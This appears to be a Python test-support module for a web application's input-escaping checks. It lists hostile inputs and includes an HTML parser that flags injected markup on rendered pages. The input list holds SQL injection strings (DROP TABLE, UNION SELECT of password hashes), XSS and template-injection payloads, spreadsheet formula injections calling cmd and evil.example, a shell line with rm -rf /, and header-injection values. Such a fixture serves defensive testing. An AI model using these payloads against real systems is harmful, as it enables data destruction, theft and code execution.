"""What attackers type, and how to see on a page that some of it has become more than text."""

from html.parser import HTMLParser

PRODUCT = "1787569"
"""1337 × 1337: whoever shows it has computed a template."""

STORED = {
    "sql": "'; DROP TABLE patient; --",
    "sql or": "' OR '1'='1' /*",
    "sql like": "100%_\\%",
    "sql union": "x') UNION SELECT password_hash FROM user_account --",
    "script": "<script>miz_pwn()</script>",
    "image": "<img src=x onerror=miz_pwn()>",
    "svg": "<svg/onload=miz_pwn()><miz-pwn>",
    "closing": "</textarea></title></style></script><miz-pwn>",
    "comment": "--><miz-pwn><!--",
    "double quote": '" onfocus="miz_pwn()" autofocus pwn="',
    "single quote": "' onmouseover='miz_pwn()' pwn='",
    "backtick": "` onclick=`miz_pwn()` pwn=`",
    "javascript address": "javascript:miz_pwn()//",
    "data address": "data:text/html,<script>miz_pwn()</script>",
    "htmx": '<div hx-on:load="miz_pwn()" hx-get="//evil.example"></div>',
    "entities": "&lt;script&gt;miz_pwn()&lt;/script&gt;&#60;miz-pwn&#62;",
    "jinja": "{{1337*1337}}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "format": "{0.__class__} {field} {value!r:>10} %(x)s %s %d ${1337*1337} #{1337*1337}",
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "formula dde": "=cmd|'/c calc'!A0",
    "formula plus": "+1337*1337",
    "formula minus": "-1+1|cmd",
    "formula at": "@SUM(1+1)",
    "shell": "$(touch /tmp/miz_pwn) `id` ; rm -rf / | cat & %PATH%",
    "header": "x Bcc: victim@evil.example %0d%0aBcc: victim@evil.example",
    "escape sequence as text": "\\x1b[2J \\r\\n \\u0000 \\ud800",
    "markup of a terminal": "[red]x[/] [/nothing] [link=http://evil.example]x[/link]",
    "right to left": "abc\u202efdp.exe\u2066x\u2069",
    "look-alike": "Ｍｕｓｔｅｒ раураl ﬁ \u200b\u00ad",
    "line separators": "a\u2028b\u2029c",
    "astral": "👩‍⚕️𝕏\U0010ffff",
    "composed": "e\u0301\u0323\u0302" * 5,
}  # fmt: skip
"""Texts that a person might type: each is stored as it is and comes back as it was."""

REFUSED = {
    "nul": "a\x00b",
    "log line": "x\r\n2026-11-22 ERROR forged",
    "terminal": "\x1b[2J\x1b]0;pwn\x07",
    "c1": "a\x9b31mb",
    "delete": "a\x7fb",
    "very long": "x" * 100_000,
}
"""Texts that nobody types: none of them is stored in a record."""

_ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "hx-put", "hx-delete", "xlink:href", "data")
_NEVER = ("miz-pwn", "iframe", "object", "embed", "base", "applet", "frame", "style")


class Reading(HTMLParser):
    """A page as a browser takes it apart: its text, and whatever is more than this program's own templates would write."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.faults: list[str] = []
        self._is_in_script = False
        self.feed(page)
        self.close()
        if PRODUCT in page:
            self.faults.append("a template was computed")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_in_script = tag == "script"
        given = {name: value or "" for name, value in attrs}
        self.text += given.values()
        if tag in _NEVER:
            self.faults.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/") and given.get("type") != "application/json":
            self.faults.append("an inline script")
        for name, value in given.items():
            if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc", "pwn"):
                self.faults.append(f"<{tag} {name}>")
            if name in _ADDRESSES and value.strip().lower().startswith(("javascript:", "data:", "vbscript:", "//", "http")):
                self.faults.append(f"<{tag} {name}={value[:40]}>")

    def handle_data(self, data: str) -> None:
        if self._is_in_script and data.strip():
            self.faults.append("words in a script")
        self.text.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._is_in_script = False

    def shows(self, text: str) -> bool:
        """Whether the text stands on the page as it was typed."""
        return any(text in part for part in self.text)
